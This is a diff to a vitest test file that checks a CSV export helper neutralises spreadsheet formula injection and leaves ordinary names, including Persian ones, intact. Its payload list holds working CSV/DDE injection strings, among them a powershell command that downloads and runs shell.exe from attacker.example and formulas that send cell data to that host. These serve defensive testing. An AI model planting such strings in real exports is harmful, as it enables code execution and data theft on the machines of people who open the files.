@@ -1,5 +1,35 @@
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { csvLines, neutralizeCell, toCsv, utf8Bom } from './csv';
+
+// OWASP "CSV Injection" payloads and variants seen in the wild (DDE, HYPERLINK, web requests).
+const owaspPayloads = [
+  "=cmd|' /C calc'!A0",
+  "=cmd|' /C powershell IEX(wget attacker.example/shell.exe)'!A0",
+  '=HYPERLINK("http://attacker.example?leak="&A1&A2,"Error: please click for details")',
+  "+cmd|' /C notepad'!'B1'",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '=1+2',
+  '+1+2',
+  '-1+2',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
+  '=WEBSERVICE("http://attacker.example/")',
+  "\t=1+2",
+  "\r=1+2",
+  "\n-2+3",
+  '\u200f=HYPERLINK("x")',
+  '  =1',
+  '-(1)',
+  "+'Sheet 2'!A1",
+  '-A1',
+  '+ 1',
+];
+
+// Values real victim lists contain that begin like a formula but are text to any spreadsheet.
+const realValues = ['-', '- ', '+', '-Ali', '+Reza', '-Arash Rahimi', '- Tehran', '-آرش', '+ شیرین', 'Negar Ahmadinejad-Test'];
 
 describe('CSV cells are neutralised against formula injection', () => {
   it.each([
@@ -25,9 +55,23 @@ describe('CSV cells are neutralised against formula injection', () => {
     expect(neutralizeCell(true)).toBe('true');
   });
 
-  it('neutralises Persian text that starts with a formula character', () => {
+  it('neutralises Persian text that starts with = or @', () => {
     expect(neutralizeCell('=سلام')).toBe("'=سلام");
-    expect(neutralizeCell('-آرش')).toBe("'-آرش");
+    expect(neutralizeCell('@سلام')).toBe("'@سلام");
+  });
+
+  it.each(owaspPayloads)('neutralises the OWASP payload %j', (payload) => {
+    expect(neutralizeCell(payload)).toBe(`'${payload}`);
+  });
+
+  it.each(realValues)('leaves the real value %j exactly as it is', (value) => {
+    expect(neutralizeCell(value)).toBe(value);
+  });
+
+  it('reads back from the CSV exactly as the JSON holds it, for every real value (0 mismatches)', () => {
+    const rows = realValues.map((name, i) => [i, name]);
+    const read = parse(toCsv(['id', 'name'], rows), { bom: true, columns: true }) as Array<{ id: string; name: string }>;
+    expect(read.map((r) => r.name)).toEqual(realValues);
   });
 });
 
